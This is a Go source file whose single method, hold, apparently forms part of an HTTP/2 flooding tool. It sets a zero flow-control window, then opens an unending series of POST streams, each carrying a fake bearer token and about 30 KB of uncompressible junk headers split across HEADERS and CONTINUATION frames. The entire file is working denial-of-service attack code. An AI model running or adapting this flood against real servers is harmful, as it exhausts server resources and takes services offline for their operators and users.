package node

import (
	"bytes"
	"fmt"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// hold opens a hundred streams on a connection, and more every ten seconds, and reads
// what comes so that the server's answers leave; its window for bodies is 0.
func (f *flooding) hold(c net.Conn) {
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(15 * time.Minute))
	gone := make(chan struct{})
	go func() {
		defer close(gone)
		in := make([]byte, 32<<10)
		for {
			if _, err := c.Read(in); err != nil {
				return
			}
		}
	}()
	defer func() { _ = c.Close(); <-gone }()
	frames := http2.NewFramer(c, c)
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return
	}
	if err := frames.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return
	}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for id := uint32(1); ; id += 2 {
		pause := time.Duration(0)
		if id%200 == 199 {
			pause = 10 * time.Second
		}
		select {
		case <-f.over:
			return
		case <-gone:
			return
		case <-time.After(pause):
		}
		block.Reset()
		for _, h := range [][2]string{
			{":method", "POST"}, {":scheme", "https"}, {":authority", "bot"}, {":path", "/api/calls"},
			{"content-type", "application/json"}, {"authorization", fmt.Sprint("Bearer x.y.", id)},
		} {
			_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
		}
		for n := range 10 {
			_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-junk-", n), Value: strings.Repeat("j", 3000), Sensitive: true})
		}
		head, rest := block.Bytes()[:16000], block.Bytes()[16000:]
		if frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true}) != nil || frames.WriteContinuation(id, true, rest) != nil {
			return
		}
		f.sent.Add(1)
	}
}
